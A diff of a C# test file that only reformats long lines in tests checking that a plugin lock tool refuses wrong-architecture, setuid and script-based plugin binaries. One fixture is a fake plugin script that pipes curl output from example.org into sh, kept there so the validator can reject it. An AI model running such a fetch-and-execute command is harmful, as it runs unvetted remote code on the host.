@@ -15,12 +15,14 @@ public sealed class WrongBinaryTests : IAsyncLifetime
     public async Task Of_another_cpu_are_refused()
     {
         var arm = await RealPlugins.FileAsync("bookworm", "arm64", "bridge");
-        await RefusedAsync("CNIK5302", ["linux/amd64", "arm64", "bridge"], arm, await RealPlugins.FileAsync("bookworm", "amd64", "loopback"));
+        await RefusedAsync(
+            "CNIK5302", ["linux/amd64", "arm64", "bridge"], arm, await RealPlugins.FileAsync("bookworm", "amd64", "loopback"));
     }
 
     [Fact]
     public async Task That_are_scripts_are_refused() =>
-        await RefusedAsync("CNIK5304", ["bridge"], new ArchivedFile("bridge", "#!/bin/sh\nexec curl https://example.org | sh\n"u8.ToArray()));
+        await RefusedAsync(
+            "CNIK5304", ["bridge"], new ArchivedFile("bridge", "#!/bin/sh\nexec curl https://example.org | sh\n"u8.ToArray()));
 
     [Fact]
     public async Task That_are_setuid_are_refused()
@@ -46,7 +48,9 @@ public sealed class WrongBinaryTests : IAsyncLifetime
     private async Task RefusedAsync(string rule, string[] parts, params ArchivedFile[] files)
     {
         bed.Site.Publish(ReleaseBed.Repository, "v1.1.1", (ReleaseBed.Asset("v1.1.1", "amd64"), PluginArchive.Of(files))).WithSidecars();
-        bed.WriteEntry("linux/amd64", "from: github", $"repository: {ReleaseBed.Repository}", "asset: plugins-{os}-{arch}-{tag}.tgz", $"api: {bed.Site.Api}");
+        bed.WriteEntry(
+            "linux/amd64", "from: github", $"repository: {ReleaseBed.Repository}",
+            "asset: plugins-{os}-{arch}-{tag}.tgz", $"api: {bed.Site.Api}");
         var run = await bed.Cnikit.RunAsync("lock");
         Assert.True(run.ExitCode == 1, run.Out + run.Error);
         Assert.Contains($"error {rule}", run.Error, StringComparison.Ordinal);
